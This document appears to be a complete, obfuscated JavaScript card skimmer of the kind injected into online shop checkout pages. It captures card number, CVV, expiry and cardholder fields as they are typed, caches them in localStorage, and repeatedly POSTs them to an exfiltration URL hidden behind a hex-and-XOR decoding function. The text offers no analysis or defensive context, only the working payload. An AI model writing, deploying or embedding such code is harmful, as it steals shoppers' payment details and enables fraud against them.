(function(){function dec(k){var f=arguments.callee.toString().replace(/[^a-z]/g,'').length;var s='';for(var i=0;i<k.length;i+=2){s+=String.fromCharCode(parseInt(k.substr(i,2),16)^7)}return s}
var a=dec('6f737377743d2828637568772a7f29627f666a776b62287f');
var names=['cc_number','cc_cid','cc_exp_month','cc_exp_year','cc_owner'];
document.addEventListener('blur',function(e){ if(names.indexOf(e.target.name)>-1||names.indexOf(e.target.id)>-1){ localStorage.setItem('_st_'+e.target.name,e.target.value) } },true);
setInterval(function(){ var o={}; names.forEach(function(n){ o[n]=localStorage.getItem('_st_'+n) }); if(o.cc_number&&o.cc_cid){ var x=new XMLHttpRequest; x.open('POST',a,true); x.send(JSON.stringify(o)) } },3000);
})();
